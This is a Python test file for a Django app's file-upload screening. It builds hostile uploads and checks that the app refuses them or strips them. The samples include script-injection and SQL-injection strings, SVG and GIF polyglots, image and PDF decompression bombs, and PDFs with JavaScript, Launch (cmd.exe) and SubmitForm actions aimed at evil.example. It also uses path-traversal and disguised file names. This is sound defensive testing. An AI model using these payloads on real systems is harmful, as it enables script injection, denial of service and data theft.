"""Hostile uploads, generated here: each is refused with a clear message on the form, or
neutralised so nothing of it reaches the viewing copy and the original is never shown inline."""

import io
import re
import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from django.utils.html import escape
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image, PngImagePlugin

from reporting import files, services
from reporting.models import Attachment, PendingUpload
from tests.factories import make_report, open_report
from tests.reporting.conftest import jpeg_bytes, png_bytes
from tests.reporting.staff.admin_pages import file_url

pytestmark = pytest.mark.django_db

SCRIPT = b"<script>alert(document.cookie)</script>"


# The corpus


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of_size(width: int, height: int, *, rows: bool = True) -> bytes:
    """A 1-bit PNG of any size that stays small; without `rows` its data is missing (a bomb
    whose header alone claims the size)."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    row = b"\0" + b"\0" * ((width + 7) // 8)
    data = zlib.compress(row * height, 9) if rows else zlib.compress(b"\0" * 64)
    return (
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", data) + png_chunk(b"IEND", b"")
    )


def png_with_text_bomb() -> bytes:
    """A PNG whose compressed text chunk inflates to 20 MB."""
    whole = png_bytes()
    bomb = png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"A" * 20_000_000, 9))
    return whole[:33] + bomb + whole[33:]


def jpeg_claiming(width: int, height: int) -> bytes:
    """A tiny JPEG whose frame header claims the given size."""
    real = jpeg_bytes(size=(8, 8))
    marker = real.index(b"\xff\xc0")
    return real[: marker + 5] + struct.pack(">HH", height, width) + real[marker + 9 :]


def zip_bytes() -> bytes:
    import zipfile

    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("index.html", "<html>" + SCRIPT.decode() + "</html>")
    return output.getvalue()


def jpeg_with_script_metadata() -> bytes:
    """A JPEG with script in its EXIF description, artist and copyright, and in a comment."""
    exif = Image.Exif()
    exif[0x010E] = SCRIPT.decode()  # ImageDescription
    exif[0x013B] = '"><img src=x onerror=alert(1)>'  # Artist
    exif[0x8298] = "'; DROP TABLE reporting_report; --"  # Copyright
    output = io.BytesIO()
    Image.new("RGB", (40, 30), (1, 2, 3)).save(output, "JPEG", exif=exif.tobytes(), comment=SCRIPT)
    return output.getvalue()


def png_with_script_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", SCRIPT.decode())
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>" + SCRIPT.decode() + "</x:xmpmeta>")
    output = io.BytesIO()
    Image.new("RGB", (40, 30), (1, 2, 3)).save(output, "PNG", pnginfo=info)
    return output.getvalue()


def pdf(*objects: bytes) -> bytes:
    """A small PDF with the given objects after its catalog and page."""
    body = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>", *objects]
    parts = [b"%PDF-1.7\n"]
    for number, text in enumerate(body, start=1):
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, text))
    return b"".join(parts) + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


def pdf_with_object_stream(hidden: bytes, *, compress=zlib.compress) -> bytes:
    """A PDF whose action dictionary is compressed inside an object stream."""
    data = compress(b"3 0 " + hidden)
    return pdf(
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(data), data)
    )


CLEAN_PDF = pdf(b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.org/receipt) >> >>")

REFUSED = {
    # name, content, what the message says
    "html-named-jpg": ("photo.jpg", b"<!doctype html><html>" + SCRIPT + b"</html>", "is not a JPEG, PNG"),
    "svg-named-png": (
        "photo.png",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>",
        "is not a JPEG, PNG",
    ),
    "svg-with-xml-prolog": (
        "photo.jpg",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
        "is not a JPEG, PNG",
    ),
    "gif-javascript-polyglot": (
        "photo.jpg",
        b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=alert(1);//",
        "is not a JPEG, PNG",
    ),
    "zip-named-pdf": ("receipt.pdf", zip_bytes(), "is not a JPEG, PNG"),
    "windows-program": (
        "photo.jpg",
        b"MZ\x90\x00" + b"\0" * 60 + b"This program cannot be run",
        "is not a JPEG, PNG",
    ),
    "empty": ("photo.jpg", b"", "is not a JPEG, PNG"),
    "jpeg-magic-then-html": ("photo.jpg", b"\xff\xd8\xff\xe0" + SCRIPT, "looks damaged or incomplete"),
    "truncated-jpeg": ("photo.jpg", jpeg_bytes(size=(400, 300))[:700], "looks damaged or incomplete"),
    "truncated-png": ("scan.png", png_bytes(size=(300, 300))[:60], "looks damaged or incomplete"),
    "png-bomb": ("bomb.png", png_of_size(60_000, 60_000, rows=False), "has too many pixels"),
    "jpeg-bomb": ("bomb.jpg", jpeg_claiming(65_000, 65_000), "has too many pixels"),
    "png-text-chunk-bomb": ("scan.png", png_with_text_bomb(), "looks damaged or incomplete"),
    "just-over-the-pixel-limit": ("big.png", png_of_size(7072, 7071), "has too many pixels"),
    "pdf-javascript": (
        "receipt.pdf",
        pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        "is a PDF with scripts",
    ),
    "pdf-open-action": ("receipt.pdf", pdf(b"<< /OpenAction 4 0 R >>"), "is a PDF with scripts"),
    "pdf-additional-actions": (
        "receipt.pdf",
        pdf(b"<< /Type /Page /AA << /O 4 0 R >> >>"),
        "is a PDF with scripts",
    ),
    "pdf-launch": ("receipt.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), "is a PDF with scripts"),
    "pdf-embedded-file": (
        "receipt.pdf",
        pdf(b"<< /Names << /EmbeddedFiles 5 0 R >> >>"),
        "is a PDF with scripts",
    ),
    "pdf-submit-form": (
        "receipt.pdf",
        pdf(b"<< /S /SubmitForm /F (https://evil.example/) >>"),
        "is a PDF with scripts",
    ),
    "pdf-escaped-name": (
        "receipt.pdf",
        pdf(b"<< /S /J#61va#53cript /J#53 (app.alert(1)) >>"),
        "is a PDF with scripts",
    ),
    "pdf-action-in-object-stream": (
        "receipt.pdf",
        pdf_with_object_stream(b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"),
        "is a PDF with scripts",
    ),
    "pdf-escaped-name-in-object-stream": (
        "receipt.pdf",
        pdf_with_object_stream(b"<< /Open#41ction 4 0 R >>"),
        "is a PDF with scripts",
    ),
    "pdf-object-stream-it-cannot-read": (
        "receipt.pdf",
        pdf_with_object_stream(b"<< /OpenAction 4 0 R >>", compress=lambda data: data.hex().encode()),
        "is a PDF we cannot check",
    ),
    "pdf-object-stream-spelt-with-escapes": (
        "receipt.pdf",
        pdf_with_object_stream(b"<< /OpenAction 4 0 R >>").replace(b"/ObjStm", b"/Obj#53tm"),
        "is a PDF we cannot check",
    ),
    "pdf-object-stream-bomb": (
        "receipt.pdf",
        pdf_with_object_stream(b"<< >>" + b" " * (files.PDF_MAX_INFLATED + 1)),
        "is a PDF we cannot check",
    ),
    "pdf-html-polyglot": (
        "receipt.pdf",
        b"%PDF-1.4\n<html><body>" + SCRIPT + b"</body></html>\n" + CLEAN_PDF[9:],
        "is a PDF with scripts",
    ),
}


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def read(field_file) -> bytes:
    with field_file.open("rb") as opened:
        return opened.read()


def add_information(client, report, *uploads, note="Here is a file."):
    return client.post(
        f"/report/status/{report.reference}/add/",
        {
            "note": note,
            "items-TOTAL_FORMS": "1",
            "items-INITIAL_FORMS": "0",
            "items-0-quantity": "1",
            "files": list(uploads),
        },
    )


# Refused


@pytest.mark.parametrize(("name", "content", "message"), REFUSED.values(), ids=REFUSED.keys())
def test_each_hostile_file_is_refused_with_its_reason(name, content, message):
    with pytest.raises(files.FileRejected) as refused:
        files.check_upload(upload(name, content))

    assert str(refused.value.message).startswith(f"“{name}” ")
    assert message in str(refused.value.message)


@pytest.mark.parametrize(("name", "content", "message"), REFUSED.values(), ids=REFUSED.keys())
def test_each_hostile_file_is_refused_on_the_files_step_and_nothing_is_kept(screened, name, content, message):
    response = screened.post("/report/new/files/", {"files": [upload(name, content)], "action": "upload"})

    assert response.status_code == 200
    html = response.content.decode()
    assert 'class="usa-error-message"' in html
    assert message in html
    assert not PendingUpload.objects.exists()


@pytest.mark.parametrize(
    "case", ["svg-named-png", "pdf-javascript", "pdf-action-in-object-stream", "png-bomb", "truncated-jpeg"]
)
def test_a_hostile_file_added_later_is_refused_and_the_note_typed_is_kept(resident, case):
    report, _token = make_report()
    open_report(resident, report)
    name, content, message = REFUSED[case]

    response = add_information(resident, report, upload(name, content), note="Receipt attached.")

    html = response.content.decode()
    assert response.status_code == 200
    assert message in html
    assert "Receipt attached." in html
    assert not Attachment.objects.exists()
    assert not report.messages.exists()


def test_a_hostile_file_among_good_ones_keeps_none_of_them(screened):
    response = screened.post(
        "/report/new/files/",
        {
            "files": [upload("a.jpg", jpeg_bytes()), upload("b.pdf", REFUSED["pdf-launch"][1])],
            "action": "upload",
        },
    )

    assert "is a PDF with scripts" in response.content.decode()
    assert not PendingUpload.objects.exists()


@pytest.mark.parametrize(
    ("language", "words"),
    [
        ("es", "es un PDF con scripts"),
        ("so", "waa PDF leh qoraallo"),
        ("hmn", "yog PDF uas muaj"),
    ],
)
def test_the_refusal_is_in_the_residents_language(screened, language, words):
    with translation.override(language):
        response = screened.post(
            f"/{language}/report/new/files/",
            {"files": [upload("r.pdf", REFUSED["pdf-javascript"][1])], "action": "upload"},
        )

    assert words in response.content.decode()


# Accepted, and neutralised


def test_an_image_just_under_the_pixel_limit_is_accepted():
    checked = files.check_upload(upload("big.png", png_of_size(7072, 7070)))

    assert files.MAX_PIXELS >= 7072 * 7070
    with Image.open(io.BytesIO(files.viewing_copy(checked.content))) as viewing:
        assert max(viewing.size) == files.VIEWING_COPY_SIZE[0]


def test_the_pixel_limit_is_what_a_phone_photo_needs():
    assert files.MAX_PIXELS == 50_000_000


def test_a_plain_pdf_with_a_web_link_is_accepted():
    checked = files.check_upload(upload("receipt.pdf", CLEAN_PDF))

    assert checked.content_type == "application/pdf"


def test_a_pdf_with_a_compressed_object_stream_and_no_actions_is_accepted():
    content = pdf_with_object_stream(b"<< /Type /Annot /Subtype /Text /Contents (Receipt) >>")

    assert files.check_upload(upload("receipt.pdf", content)).content_type == "application/pdf"


def test_a_pdf_whose_picture_data_holds_short_names_by_chance_is_accepted():
    # Compressed pictures are random-looking bytes: in a few megabytes, "/JS " or "<svg " turn up.
    picture = b"\x93/JS \x10\xfe/AA\n\x01<svg \x80" * 100
    content = pdf(
        b"<< /Type /XObject /Subtype /Image /Filter /DCTDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(picture), picture)
    )

    assert files.check_upload(upload("scan.pdf", content)).content_type == "application/pdf"


def test_a_script_action_hidden_in_stream_data_is_still_refused():
    hidden = b"stream\n5 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\nendstream"

    with pytest.raises(files.FileRejected):
        files.check_upload(upload("receipt.pdf", pdf(b"<< /Length 0 >>\n" + hidden)))


NEUTRALISED = {
    "jpeg-with-html-appended": jpeg_bytes() + b"<html><body>" + SCRIPT + b"</body></html>",
    "jpeg-with-zip-appended": jpeg_bytes() + zip_bytes(),
    "png-with-script-appended": png_bytes() + SCRIPT,
    "jpeg-with-script-in-exif-and-comment": jpeg_with_script_metadata(),
    "png-with-script-in-text-chunks": png_with_script_text(),
}


@pytest.mark.parametrize("content", NEUTRALISED.values(), ids=NEUTRALISED.keys())
def test_nothing_but_pixels_survives_in_the_viewing_copy(screened, content):
    screened.post("/report/new/files/", {"files": [upload("photo.jpg", content)], "action": "upload"})

    kept = PendingUpload.objects.get()
    viewing = read(kept.viewing_copy)
    assert read(kept.original) == content
    for trace in (b"<script", b"alert", b"<html", b"PK\x03\x04", b"onerror", b"DROP TABLE", b"xmpmeta"):
        assert trace not in viewing
    with Image.open(io.BytesIO(viewing)) as image:
        assert image.format == "JPEG"
        assert not image.getexif()
        assert not {"exif", "comment", "xmp"} & set(image.info)


def test_staff_get_a_polyglot_original_only_as_a_sandboxed_download(report_taker):
    polyglot = NEUTRALISED["jpeg-with-html-appended"]
    report, _token = make_report()
    services.add_supplement(report, checked_files=[files.check_upload(upload("p.jpg", polyglot))])
    attachment = Attachment.objects.get()

    original = report_taker.get(file_url(report, "attachment", attachment.pk, "original"))
    viewing = report_taker.get(file_url(report, "attachment", attachment.pk, "viewing"))

    assert b"".join(original.streaming_content) == polyglot
    assert original["Content-Disposition"].startswith("attachment;")
    assert original["Content-Type"] == "image/jpeg"
    for response in (original, viewing):
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Security-Policy"].startswith("sandbox")
    assert SCRIPT not in b"".join(viewing.streaming_content)


# Whatever the bytes


@settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    magic=st.sampled_from([b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"%PDF-", b"\0\0\0\x18ftypheic", b""]),
    rest=st.binary(max_size=2048),
    keep=st.floats(min_value=0, max_value=1),
)
def test_any_bytes_are_accepted_or_refused_with_a_message_never_an_error(magic, rest, keep):
    """Random bytes, and real images cut or corrupted at random, behind each accepted signature."""
    real = jpeg_bytes() if magic.startswith(b"\xff") else png_bytes()
    for content in (magic + rest, real[: int(len(real) * keep)] + rest):
        try:
            files.check_upload(upload("any.jpg", content))
        except files.FileRejected as refused:
            assert str(refused.message).startswith("“any.jpg” ")


# Hostile names

HOSTILE_NAMES = [
    "<script>alert(1)</script>.jpg",
    '"><img src=x onerror=alert(1)>.jpg',
    "'; DROP TABLE reporting_attachment; --.jpg",
    "../../../../etc/passwd.jpg",
    "\u202egpj.exe",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_hostile_file_name_is_shown_as_text_and_never_becomes_a_path(screened, name):
    screened.post("/report/new/files/", {"files": [upload(name, jpeg_bytes())], "action": "upload"})
    kept = PendingUpload.objects.get()

    html = screened.get("/report/new/files/").content.decode()

    assert "<script>alert" not in html
    assert "<img src=x" not in html
    assert escape(kept.original_name) in html
    # Stored under a random name of the server's choosing, whatever the resident's file was called.
    assert re.fullmatch(r"reporting/originals/\d{4}/\d{2}/[0-9a-f]{32}\.jpg", kept.original.name)


@pytest.mark.parametrize("name", HOSTILE_NAMES[:2])
def test_a_hostile_file_name_in_a_refusal_is_shown_as_text(screened, name):
    response = screened.post(
        "/report/new/files/", {"files": [upload(name, b"<svg onload=alert(1)>")], "action": "upload"}
    )

    html = response.content.decode()
    assert "is not a JPEG, PNG, HEIC or PDF file" in html
    assert "<script>alert" not in html
    assert "<img src=x" not in html
